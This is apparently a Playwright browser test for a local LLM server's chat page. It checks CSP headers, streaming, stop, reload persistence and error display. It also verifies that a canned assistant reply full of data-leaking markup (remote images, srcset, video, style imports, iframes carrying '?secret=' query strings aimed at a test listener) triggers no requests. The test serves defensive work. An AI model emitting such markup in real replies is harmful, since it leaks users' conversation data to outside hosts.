// The chat page in a real headless browser (Debian's chromium, driven by playwright-core),
// against a running `ferrox serve` whose API key is given:
//
//   node tests/browser.mjs URL API_KEY
//
// Checks: the page and its assets are served without the key, as built (dist/), with the
// Content-Security-Policy and nosniff; the page loads from the server and names the model;
// a message streams a reply; the conversation survives a reload; Stop interrupts a long
// reply; a server error (a wrong key) shows as an error; no image can be attached (the
// server takes none). Then the page must not load remote content: a reply (canned, through
// page.route, so the real renderer draws it) full of remote images and other fetching markup
// must make no request to a listener on another port, must show the images as links, and
// must trip no CSP violation (the renderer is the first wall); markup put into the page
// directly, past the renderer, is blocked by the CSP (the second wall). Throughout, the
// browser requests nothing outside the page's origin.
// Prints one JSON line; exits 1 with the reason on failure.
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { chromium } from "playwright-core";

const [url, key] = process.argv.slice(2);
const executablePath = process.env.CHROMIUM ?? "/usr/bin/chromium";
const origin = new URL(url).origin;

function fail(reason) {
  console.log(JSON.stringify({ ok: false, reason }));
  process.exit(1);
}

// What the CSP must say (crates/ferrox-server/src/web.rs).
const POLICY = {
  "default-src": "'self'",
  "script-src": "'self'",
  "style-src": "'self'",
  "img-src": "'self' data: blob:",
  "connect-src": "'self'",
  "object-src": "'none'",
  "base-uri": "'none'",
  "form-action": "'self'",
  "frame-ancestors": "'none'",
};

function checkPolicy(what, csp) {
  if (!csp) fail(`${what}: no Content-Security-Policy`);
  const directives = Object.fromEntries(
    csp.split(";").map((d) => d.trim()).filter(Boolean).map((d) => {
      const [name, ...values] = d.split(/\s+/);
      return [name, values.join(" ")];
    }),
  );
  for (const [name, value] of Object.entries(POLICY)) {
    if (directives[name] !== value) fail(`${what}: CSP ${name} is ${JSON.stringify(directives[name])}, not ${value}: ${csp}`);
  }
  if (/unsafe-inline|unsafe-eval|\*/.test(csp)) fail(`${what}: the CSP allows too much: ${csp}`);
}

// A listener on another port (another origin) that records every request it gets: the host
// a leaked image would go to.
const leaks = [];
const listener = createServer((req, res) => {
  leaks.push(req.url);
  res.writeHead(200, { "Content-Type": "image/png", "Access-Control-Allow-Origin": "*" });
  res.end();
});
await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
const leakBase = `http://127.0.0.1:${listener.address().port}`;
// It does record: a control request arrives.
await fetch(`${leakBase}/control`);
if (leaks.length !== 1) fail(`the listener did not record a control request: ${JSON.stringify(leaks)}`);
leaks.length = 0;

// The page and its assets: served without the key, as built, with the policy.
const dist = (path) => readFileSync(new URL(`../dist/${path}`, import.meta.url));
for (const [path, file, type] of [
  ["/", "index.html", "text/html"],
  ["/assets/app.js", "assets/app.js", "text/javascript"],
  ["/assets/app.css", "assets/app.css", "text/css"],
]) {
  const r = await fetch(new URL(path, url));
  if (r.status !== 200) fail(`GET ${path} without the key answered ${r.status}`);
  if (!r.headers.get("content-type")?.startsWith(type)) fail(`${path}: Content-Type ${r.headers.get("content-type")}`);
  if (r.headers.get("x-content-type-options") !== "nosniff") fail(`${path}: no X-Content-Type-Options: nosniff`);
  if (!r.headers.get("cache-control")) fail(`${path}: no Cache-Control`);
  checkPolicy(path, r.headers.get("content-security-policy"));
  if (!Buffer.from(await r.arrayBuffer()).equals(dist(file))) fail(`${path} is not dist/${file}`);
}

const browser = await chromium.launch({ executablePath, args: ["--no-sandbox"] });
try {
  const context = await browser.newContext();
  // Every request the browser makes that leaves the page's origin.
  const offsite = [];
  context.on("request", (r) => {
    const u = new URL(r.url());
    if (["http:", "https:", "ws:", "wss:"].includes(u.protocol) && u.origin !== origin) offsite.push(r.url());
  });
  // Every CSP violation the page reports (init scripts run outside the page's policy).
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
  const violations = () => page.evaluate(() => window.__violations);
  const page = await context.newPage();
  const pageErrors = [];
  page.on("pageerror", (e) => pageErrors.push(String(e)));
  const response = await page.goto(url);
  if (response?.status() !== 200) fail(`GET / answered ${response?.status()}`);
  checkPolicy("the page as the browser got it", (await response.allHeaders())["content-security-policy"]);
  if (!(await page.title()).includes("Ferrox")) fail(`title: ${await page.title()}`);
  // The stylesheet applies under the policy (body is a flex column in app.css).
  const display = await page.evaluate(() => getComputedStyle(document.body).display);
  if (display !== "flex") fail(`the stylesheet did not apply: body is display ${display}`);

  // The key goes into the settings; the model's name then shows.
  await page.click("#toggle-settings");
  await page.fill("#api-key", key);
  await page.locator("#api-key").dispatchEvent("change");
  await page.fill("#temperature", "0");
  await page.locator("#temperature").dispatchEvent("change");
  await page.fill("#max-tokens", "24");
  await page.locator("#max-tokens").dispatchEvent("change");
  await page.waitForFunction(() => document.querySelector("#model")?.textContent?.endsWith(".gguf"), null, {
    timeout: 10000,
  }).catch(() => fail(`model name not shown: ${page.locator("#model").textContent()}`));
  const model = await page.textContent("#model");
  // This server takes no images (no --mmproj): no attach button, and a pasted image is not
  // attached (tests/images.mjs drives a server that takes them).
  if (await page.isVisible("#attach")) fail("the attach button shows on a server without images");
  await page.evaluate(() => {
    const data = new DataTransfer();
    data.items.add(new File([new Uint8Array([137, 80, 78, 71])], "x.png", { type: "image/png" }));
    document.querySelector("#input").dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true }));
  });
  await page.waitForTimeout(200);
  if (await page.locator("#attachments li").count()) fail("an image was attached on a server without images");

  // A message streams a reply: the Stop button shows while it streams, the reply fills in.
  await page.fill("#input", "Tell me about the sea.");
  await page.click("#send");
  await page.waitForSelector(".message.user");
  await page.waitForFunction(() => document.body.dataset.state === "idle", null, { timeout: 60000 });
  const reply = (await page.textContent(".message.assistant .content"))?.trim() ?? "";
  if (!reply) fail("no reply text");
  if (await page.isVisible("#error")) fail(`error shown: ${await page.textContent("#error")}`);

  // The conversation is kept in the browser.
  await page.reload();
  await page.waitForSelector(".message.assistant");
  const kept = (await page.textContent(".message.assistant .content"))?.trim();
  if (kept !== reply) fail(`after a reload the reply reads ${JSON.stringify(kept)}`);

  // Stop interrupts a long reply.
  await page.click("#toggle-settings");
  await page.fill("#max-tokens", "2000");
  await page.locator("#max-tokens").dispatchEvent("change");
  await page.fill("#input", "Write a very long story about a lighthouse.");
  await page.click("#send");
  await page.waitForFunction(
    () => (document.querySelectorAll(".message.assistant .content")[1]?.textContent ?? "").length > 20,
    null,
    { timeout: 60000 },
  );
  const stoppedAt = Date.now();
  await page.click("#stop");
  await page.waitForFunction(() => document.body.dataset.state === "idle", null, { timeout: 5000 })
    .catch(() => fail("Stop did not end the stream within 5 s"));
  const ended = await page.textContent(".message.assistant:nth-of-type(4) .ended").catch(() => null);
  if (!ended?.includes("stopped")) fail(`the stopped reply is not marked: ${ended}`);
  const stopMs = Date.now() - stoppedAt;

  // A server error shows as an error.
  await page.fill("#api-key", "wrong-key");
  await page.locator("#api-key").dispatchEvent("change");
  await page.fill("#input", "Hello?");
  await page.click("#send");
  await page.waitForSelector("#error:not([hidden])", { timeout: 10000 })
    .catch(() => fail("no error shown for a wrong key"));
  const error = await page.textContent("#error");
  if (!error.includes("401")) fail(`error text: ${error}`);
  if ((await violations()).length) fail(`the page broke its own policy: ${(await violations()).join("; ")}`);

  // A reply with remote images and other markup that fetches, canned through page.route so
  // the real renderer draws it, streamed in pieces (partial Markdown renders on the way).
  const dot = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";
  const canned = [
    `Here is the chart:\n\n![diagram](${leakBase}/leak-md?secret=the-sea)\n\n`,
    `<img src="${leakBase}/leak-raw?secret=the-sea" alt="raw">\n\n`,
    `<img src="//127.0.0.1:${listener.address().port}/leak-scheme-relative">\n\n`,
    `<img srcset="${leakBase}/leak-srcset 1x" alt="set">\n`,
    `<picture><source srcset="${leakBase}/leak-source"><img alt="pic"></picture>\n`,
    `<video poster="${leakBase}/leak-poster" src="${leakBase}/leak-video" autoplay></video>\n`,
    `<audio src="${leakBase}/leak-audio" autoplay></audio>\n`,
    `<p style="background-image:url(${leakBase}/leak-style)">styled</p>\n`,
    `<style>@import url(${leakBase}/leak-import);</style>\n`,
    `<link rel="stylesheet" href="${leakBase}/leak-link">\n`,
    `<input type="image" src="${leakBase}/leak-input">\n`,
    `<svg><image href="${leakBase}/leak-svg"/><use href="${leakBase}/leak-use#x"/></svg>\n`,
    `<table background="${leakBase}/leak-table"><tr><td>cell</td></tr></table>\n`,
    `<iframe src="${leakBase}/leak-frame"></iframe><object data="${leakBase}/leak-object"></object>\n\n`,
    `A local one: ![dot](${dot}) and [a link](${leakBase}/followed-only-on-click).\n`,
  ];
  const pieces = canned.flatMap((c) => [c.slice(0, 17), c.slice(17)]);
  const sse = pieces
    .map((content) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] })}\n\n`)
    .join("") + "data: [DONE]\n\n";
  await page.route("**/v1/chat/completions", (route) =>
    route.fulfill({ status: 200, headers: { "Content-Type": "text/event-stream" }, body: sse }),
  );
  await page.click("#new-chat");
  await page.fill("#input", "Draw me a chart.");
  await page.click("#send");
  await page.waitForSelector(".message.assistant");
  await page.waitForFunction(() => document.body.dataset.state === "idle", null, { timeout: 10000 })
    .catch(() => fail("the canned reply did not finish"));
  const inspect = () => page.evaluate(() => {
    const content = document.querySelector(".message.assistant .content");
    return {
      text: content?.textContent ?? "",
      links: [...content.querySelectorAll("a.remote-image")].map((a) => ({
        href: a.getAttribute("href"), text: a.textContent, rel: a.rel, target: a.target,
      })),
      images: [...content.querySelectorAll("img")].map((i) => i.getAttribute("src")),
      fetching: [...content.querySelectorAll(
        "video, audio, source, picture, track, style, link, svg, iframe, object, embed, [style], [srcset], [poster], [background], input[src]",
      )].map((e) => e.outerHTML),
    };
  });
  // Reports every problem at once (a leak and its cause together).
  const checkRendered = async (when) => {
    const r = await inspect();
    const problems = [];
    if (!r.text.includes("Here is the chart") || !r.text.includes("A local one")) problems.push(`the reply did not render: ${r.text}`);
    const hrefs = r.links.map((l) => l.href);
    const want = [`${leakBase}/leak-md?secret=the-sea`, `${leakBase}/leak-raw?secret=the-sea`, `//127.0.0.1:${listener.address().port}/leak-scheme-relative`];
    if (JSON.stringify(hrefs) !== JSON.stringify(want)) problems.push(`remote images are not links: ${JSON.stringify(r.links)}`);
    else if (r.links[0].text !== "diagram" || r.links[1].text !== "raw") problems.push(`the links do not read the alt text: ${JSON.stringify(r.links)}`);
    if (!r.links.every((l) => l.target === "_blank" && /noopener/.test(l.rel) && /noreferrer/.test(l.rel))) {
      problems.push(`the links lack target/rel: ${JSON.stringify(r.links)}`);
    }
    // The local image stays an image; no image has a remote source.
    if (r.images.filter((src) => src === dot).length !== 1) problems.push(`the data: image is gone: ${JSON.stringify(r.images)}`);
    if (r.images.some((src) => src !== null && src !== dot)) problems.push(`an image kept a remote src: ${JSON.stringify(r.images)}`);
    if (r.fetching.length) problems.push(`markup that fetches survived: ${r.fetching.join(" ")}`);
    await page.waitForTimeout(500);
    if (leaks.length) problems.push(`the listener got requests: ${JSON.stringify(leaks)}`);
    // A blocked URL means the renderer let a fetch through and only the CSP stopped it.
    // (Inline styles in the reply trip the policy while DOMPurify parses them in its inert
    // document, which loads nothing: those report "inline", no URL.)
    const v = (await violations()).filter((x) => !x.endsWith(" inline"));
    if (v.length) problems.push(`the renderer let through what only the CSP stopped: ${v.join("; ")}`);
    if (problems.length) fail(`${when}: ${problems.join(" | ")}`);
    return r;
  };
  const rendered = await checkRendered("after the reply");
  // Redrawn from the stored conversation, too.
  await page.reload();
  await page.waitForSelector(".message.assistant a.remote-image");
  await checkRendered("after a reload");
  if (offsite.length) fail(`the page requested other origins: ${JSON.stringify(offsite)}`);
  const offsiteBeforeProbes = offsite.length;

  // The second wall: markup put into the page past the renderer is blocked by the policy.
  await page.evaluate((base) => {
    window.__violations = [];
    const img = document.createElement("img");
    img.src = `${base}/csp-img`;
    const p = document.createElement("p");
    p.setAttribute("style", `background-image:url(${base}/csp-style)`);
    p.textContent = "styled";
    const script = document.createElement("script");
    script.textContent = "window.__inline = true;";
    document.body.append(img, p, script);
    void fetch(`${base}/csp-fetch`).catch(() => {});
  }, leakBase);
  await page.waitForFunction(() => window.__violations.length >= 4, null, { timeout: 5000 }).catch(() => {});
  await page.waitForTimeout(500);
  const blocked = (await violations()).map((v) => v.split(" ")[0]).sort();
  for (const directive of ["connect-src", "img-src", "script-src-elem", "style-src-attr"]) {
    if (!blocked.includes(directive)) fail(`the CSP did not block ${directive}: ${JSON.stringify(await violations())}`);
  }
  if (await page.evaluate(() => window.__inline === true)) fail("an inline script ran");
  if (leaks.length) fail(`past the renderer the listener got requests: ${JSON.stringify(leaks)}`);

  if (pageErrors.length) fail(`script errors: ${pageErrors.join("; ")}`);
  console.log(JSON.stringify({
    ok: true, model, reply_chars: reply.length, stop_ms: stopMs, error,
    remote_image_links: rendered.links.length, leaked: leaks.length, offsite: offsiteBeforeProbes,
    probes_attempted: offsite,
    csp_blocked: blocked, csp: response.headers()["content-security-policy"],
  }));
} finally {
  await browser.close();
  listener.close();
}
